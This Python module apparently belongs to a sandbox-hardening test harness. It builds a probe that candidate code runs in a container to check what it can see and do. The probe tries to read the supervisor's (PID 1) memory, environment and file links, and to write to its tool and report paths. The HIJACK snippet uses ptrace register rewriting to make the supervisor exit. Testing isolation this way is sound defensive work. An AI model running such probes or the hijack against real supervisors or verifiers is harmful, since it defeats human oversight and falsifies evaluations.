"""What candidate code finds out and tries in its container, printed as one line of JSON."""

from __future__ import annotations

import json

from support.release import Record
from threats.kit.canaries import SEARCH

STATE = (
    "/opt/securebench/tools/supervise",
    "/opt/securebench/tools/x",
    "/opt/securebench/output/report.json",
    "/opt/securebench/candidate/x",
    "/opt/securebench/socket/../tools/x",
)
"""Where PID 1 keeps what it is and what it needs."""

PROBE = f"""\
{SEARCH}
import ctypes, errno, struct
def tried(action):
    try: action()
    except OSError as error: return errno.errorcode[error.errno]
    return "done"
def seen(path): return tried(lambda: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)))
def linked(path): return tried(lambda: os.readlink(path))
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def traced(request, data=None):
    if libc.ptrace(request, 1, None, data) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")
def peeked(name):
    buffer = ctypes.create_string_buffer(8)
    own = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    other = (ctypes.c_void_p * 2)(0x400000, 8)
    if getattr(libc, name)(1, own, 1, other, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), name)
def hijack():
    "Make PID 1 call exit_group(0): ATTACH, wait, GETREGS, SETREGS, DETACH on x86-64."
    traced(16)
    os.waitpid(1, 0x40000000)
    registers = (ctypes.c_ulong * 27)()
    traced(12, registers)
    registers[10], registers[14], registers[15] = 231, 0, 2 ** 64 - 1
    registers[16] -= 2
    traced(13, registers)
    traced(17)
lines = [line.rstrip().split(":\\t", 1) for line in open("/proc/self/status") if ":\\t" in line]
status = dict(lines)
numbers = [name for name in os.listdir("/proc") if name.isdigit()]
names = ("Uid", "CapEff", "CapPrm", "NoNewPrivs")
calls = ("process_vm_readv", "process_vm_writev")
report = {{
    "found": found,
    "status": {{name: status[name].split()[0] for name in names}},
    "processes": [open(f"/proc/{{number}}/comm").read().strip() for number in numbers],
    "read": {{name: seen(f"/proc/1/{{name}}") for name in ("environ", "mem", "maps", "fd/1")}},
    "links": {{name: linked(f"/proc/1/{{name}}") for name in ("exe", "cwd", "root", "fd/2")}},
    "peek": {{name: tried(lambda: peeked(name)) for name in calls}},
    "write": {{path: tried(lambda: open(path, "ab")) for path in {STATE!r}}},
    "memory": tried(lambda: open("/proc/1/mem", "r+b").close()),
    "ids": [open(f"/proc/self/{{name}}").read().split() for name in ("uid_map", "gid_map")],
}}
print("report=" + json.dumps(report), flush=True)
"""
HIJACK = 'print("hijack=" + tried(hijack), flush=True)\n'


def report_of(record: Record) -> dict[str, object]:
    """Return what the probe printed where the verifier's streams were kept."""
    lines = record["verifier_stdout"].splitlines()
    line = next(item for item in lines if item.startswith("report="))
    found: dict[str, object] = json.loads(line.removeprefix("report="))
    return found
